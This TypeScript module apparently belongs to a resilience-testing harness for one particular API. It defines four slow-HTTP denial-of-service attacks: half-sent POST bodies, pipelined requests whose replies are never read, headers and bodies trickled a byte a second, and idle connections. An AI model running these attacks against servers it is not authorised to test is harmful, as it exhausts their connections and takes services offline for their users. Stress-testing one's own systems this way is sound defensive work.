import type { Attack, AttackTarget } from './attack.ts';
import { openConnections } from './openConnections.ts';

const head = (target: AttackTarget, line: string, ...headers: readonly string[]) =>
  [`${line} HTTP/1.1`, `Host: ${target.url.host}`, ...headers, '', ''].join('\r\n');

/** Bytes of a body as they say, which is the default limit, and as they send. */
const SAID_BYTES = 262_144;
const HALF = Buffer.alloc(SAID_BYTES / 2, 'x');

/** How often a reader of nothing asks: what fits the buffers of both systems has to be passed first. */
const ASKED_AT_ONCE = 8;

/** The attacks that need no key, by name. */
export const attacks = {
  'half-bodies': {
    summary: 'posts that send half of their body and then nothing',
    start: (target) =>
      openConnections(target, {
        first: () =>
          Buffer.concat([
            Buffer.from(
              head(target, 'POST /requests', 'Content-Type: application/json', `Content-Length: ${SAID_BYTES}`),
            ),
            HALF,
          ]),
        reads: true,
      }),
  },
  'no-readers': {
    summary: 'calls for long answers that nobody reads',
    start: (target) =>
      openConnections(target, {
        first: () => head(target, 'GET /openapi.json').repeat(ASKED_AT_ONCE),
        reads: false,
      }),
  },
  'slow-senders': {
    summary: 'heads and bodies that come a byte a second',
    start: (target) =>
      openConnections(target, {
        first: (place) =>
          place % 2 === 0
            ? `GET /health HTTP/1.1\r\nHost: ${target.url.host}\r\nX-Slow: `
            : head(target, 'POST /requests', 'Content-Type: application/json', 'Content-Length: 10000'),
        again: { text: 'x', everyMs: 1000 },
        reads: true,
      }),
  },
  idle: {
    summary: 'connections on which nothing is ever asked',
    start: (target) => openConnections(target, { first: () => '', reads: true }),
  },
} as const satisfies Readonly<Record<string, Attack>>;

export type AttackName = keyof typeof attacks;
